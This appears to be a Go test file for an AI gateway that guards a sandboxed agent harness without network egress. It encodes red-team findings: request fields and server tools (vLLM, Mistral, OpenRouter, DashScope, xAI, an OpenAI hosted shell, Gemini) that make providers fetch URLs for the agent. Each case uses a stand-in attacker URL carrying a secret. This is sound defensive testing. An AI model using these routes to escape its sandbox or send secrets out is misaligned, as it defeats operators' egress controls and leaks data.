package gateway

import (
	"encoding/json"
	"strings"
	"testing"
)

// An outside red team's findings against the passthrough's guard of the
// provider's network (withoutProviderNetwork, urlFetched) for a sandboxed
// harness without egress (ProviderNetwork false): bodies a provider, an
// aggregator or a compatible server acts on by reaching the network for
// the agent, each of which reached the provider as sent before the guard
// learnt them. The control of each: with ProviderNetwork the same body
// reaches the provider as sent (rtWantSent).

const rtEvil = "https://attacker.example/x?secret=s3"

// rtWantHeld fails when the provider got the request with the
// network-reaching part still in it (neither refused nor left out).
func rtWantHeld(t *testing.T, status int, out string, bodies []string, part string) {
	t.Helper()
	if status == 200 && len(bodies) == 1 && strings.Contains(bodies[0], part) {
		t.Errorf("the provider got %s with %q in it; want it refused (400) or %q left out", bodies[0], part, part)
	}
}

// rtWantSent is the control: with ProviderNetwork the body reaches the
// provider as sent.
func rtWantSent(t *testing.T, d Dialect, body string) {
	t.Helper()
	if status, out, bodies := postPassthrough(t, d, true, body); status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], body) {
		t.Errorf("control, ProviderNetwork: status %d (%s), the provider got %q; want it as sent", status, out, bodies)
	}
}

// heldCase is a body a sandboxed harness without egress may not have go
// to the provider as sent, and the part of it that must not reach it.
type heldCase struct {
	name    string
	dialect Dialect
	body    string
	part    string
}

// wantHeld runs each case: without ProviderNetwork the part does not reach
// the provider (rtWantHeld); with it the body goes as sent (rtWantSent).
func wantHeld(t *testing.T, cases []heldCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			status, out, bodies := postPassthrough(t, c.dialect, false, c.body)
			rtWantHeld(t, status, out, bodies, c.part)
			rtWantSent(t, c.dialect, c.body)
		})
	}
}

// TestPassthroughRefusesContentURLsOfCompatibleServers: content parts that OpenAI-compatible
// servers and aggregators fetch by URL, under keys the walk does not know.
func TestPassthroughRefusesContentURLsOfCompatibleServers(t *testing.T) {
	cases := []heldCase{
		// vLLM chat_utils: CustomChatCompletionContentSimpleAudioParam {"audio_url": "https://..."};
		// _parse_chat_message_content_mm_part takes a plain-string audio_url and MediaConnector fetches http(s).
		{"vllm plain audio_url", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"audio_url","audio_url":"` + rtEvil + `"}]}]}`, rtEvil},
		// vLLM chat_utils: CustomChatCompletionContentSimpleVideoParam {"video_url": "https://..."}, fetched the same way.
		{"vllm plain video_url", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"video_url","video_url":"` + rtEvil + `"}]}]}`, rtEvil},
		// Mistral chat completions (Document QnA): {"type":"document_url","document_url":"https://..."}; Mistral downloads and OCRs it.
		{"mistral document_url", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"text","text":"read"},{"type":"document_url","document_url":"` + rtEvil + `"}]}]}`, rtEvil},
		// OpenRouter "PDF Inputs": the file content part's file_data may be a direct URL, which OpenRouter fetches.
		{"openrouter file_data URL", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"file","file":{"filename":"x.pdf","file_data":"` + rtEvil + `"}}]}]}`, rtEvil},
		// LiteLLM "Using PDF Input": {"type":"file","file":{"file_id":"https://..."}}; the proxy downloads it (Bedrock) or passes it as a URL source.
		{"litellm file_id URL", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"` + rtEvil + `"}}]}]}`, rtEvil},
		// Alibaba Model Studio (DashScope) compatible-mode chat, Qwen-Omni: input_audio.data may be an http(s) URL, which DashScope downloads.
		{"dashscope input_audio.data URL", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"` + rtEvil + `","format":"wav"}}]}]}`, rtEvil},
		// DashScope compatible-mode chat, Qwen-VL: a video given as a list of frame image URLs, {"type":"video","video":["https://..."]}, downloaded by DashScope.
		{"dashscope video frame list", DialectChat, `{"model":"g","messages":[{"role":"user","content":[{"type":"video","video":["` + rtEvil + `"]}]}]}`, rtEvil},
	}
	wantHeld(t, cases)
}

// TestPassthroughLeavesOutServerToolsOfAggregators: provider-run network tools that
// the Anthropic and Responses filters do not know (the Chat filter keeps
// only function/custom, these dialects use a deny list).
func TestPassthroughLeavesOutServerToolsOfAggregators(t *testing.T) {
	cases := []heldCase{
		// OpenRouter server tools (beta): tools[].type "openrouter:web_fetch" / "openrouter:web_search", run by
		// OpenRouter in any API format, incl. its Anthropic Messages endpoint /api/v1/messages.
		{"openrouter web_fetch, anthropic", DialectAnthropic,
			`{"model":"c","max_tokens":9,"messages":[{"role":"user","content":"fetch ` + rtEvil + `"}],"tools":[{"type":"openrouter:web_fetch"}]}`, "openrouter:web_fetch"},
		// Same server tool on OpenRouter's Responses endpoint /api/v1/responses.
		{"openrouter web_search, responses", DialectResponses,
			`{"model":"g","input":"search","tools":[{"type":"openrouter:web_search"}]}`, "openrouter:web_search"},
		// xAI Responses API built-in tool x_search: xAI searches X server-side (allowed_x_handles picks whose posts are read).
		{"xai x_search, responses", DialectResponses,
			`{"model":"grok","input":"read the latest post","tools":[{"type":"x_search","allowed_x_handles":["attacker"]}]}`, "x_search"},
		// OpenAI Responses hosted shell: a container_auto environment with network_policy allowlist runs
		// model-written commands with outbound access to the listed domains (org-level allowlist permitting).
		{"openai hosted shell with network, responses", DialectResponses,
			`{"model":"g","input":"curl it","tools":[{"type":"shell","environment":{"type":"container_auto","network_policy":{"type":"allowlist","allowed_domains":["attacker.example"]}}}]}`, "attacker.example"},
		// Gemini API built-in tool googleMaps (Grounding with Google Maps): Google queries Maps server-side.
		{"gemini googleMaps", DialectGemini,
			`{"contents":[{"role":"user","parts":[{"text":"find it"}]}],"tools":[{"googleMaps":{}}]}`, "googleMaps"},
	}
	wantHeld(t, cases)
}

// TestPassthroughLeavesOutSearchSwitchesOfCompatibleServers: switches of a hosted
// OpenAI-compatible provider that turn on its web search and page fetching,
// which the aggregator deny list (plugins, search_parameters) does not name.
func TestPassthroughLeavesOutSearchSwitchesOfCompatibleServers(t *testing.T) {
	cases := []heldCase{
		// DashScope compatible-mode chat (Qwen Code's default provider): enable_search turns on Qwen web search;
		// search_options.search_strategy "agent_max" adds web page extraction (fetching pages the model picks).
		{"dashscope enable_search, chat", DialectChat,
			`{"model":"qwen3-max","stream":true,"messages":[{"role":"user","content":"open ` + rtEvil + `"}],"enable_search":true,"search_options":{"search_strategy":"agent_max"}}`, "enable_search"},
		// DashScope compatible-mode Responses: built-in tool web_extractor fetches web pages server-side (documented
		// together with web_search, which the gateway does leave out; whether DashScope runs web_extractor alone is unverified).
		{"dashscope web_extractor, responses", DialectResponses,
			`{"model":"qwen3-max","input":"open ` + rtEvil + `","tools":[{"type":"web_search"},{"type":"web_extractor"}]}`, "web_extractor"},
	}
	wantHeld(t, cases)
}

// TestPassthroughConfiguredModelLeavesOutFallbackModels: with harness.model.name set the
// agent may not pick the model, but OpenRouter's "models" fallback list (Chat,
// Responses) and "fallbacks" (its Anthropic Messages endpoint) go as sent; a
// fallback ":online" model runs OpenRouter's web search (the "web" plugin
// that is left out when asked for by "plugins"). OpenRouter falls back on any
// error of the primary, e.g. a context-length error the harness can provoke.
func TestPassthroughConfiguredModelLeavesOutFallbackModels(t *testing.T) {
	cases := []struct {
		dialect    Dialect
		path, body string
		part       string
	}{
		// OpenRouter "Model Fallbacks": models: [...] tried in order when the primary errors.
		{DialectChat, "/v1/chat/completions", `{"model":"x","messages":[{"role":"user","content":"hi"}],"models":["openai/gpt-4o:online"]}`, ":online"},
		// OpenRouter: the Anthropic Messages endpoint accepts fallbacks: [{"model": ...}], mapped to models.
		{DialectAnthropic, "/v1/messages", `{"model":"x","max_tokens":9,"messages":[{"role":"user","content":"hi"}],"fallbacks":[{"model":"anthropic/claude-sonnet-4:online"}]}`, ":online"},
	}
	for _, c := range cases {
		for _, pinned := range []string{"pinned-cheap", ""} {
			url, got := capturingUpstream(t)
			gw := startGateway(t, "", Options{Upstream: Upstream{Kind: UpstreamPassthrough, URL: url, Dialect: c.dialect, Model: pinned}})
			headers := gw.bearer()
			if c.dialect == DialectAnthropic {
				headers = gw.anthropicHeaders()
			}
			status, out := gw.post(t, c.path, headers, json.RawMessage(c.body))
			_, bodies := got()
			if pinned != "" {
				rtWantHeld(t, status, string(out), bodies, c.part)
			} else if status != 200 || len(bodies) != 1 || !jsonEqual(bodies[0], c.body) {
				// The control: no model configured, the agent's own choice goes.
				t.Errorf("control, no configured model: status %d (%s), the provider got %q; want it as sent", status, out, bodies)
			}
		}
	}
}
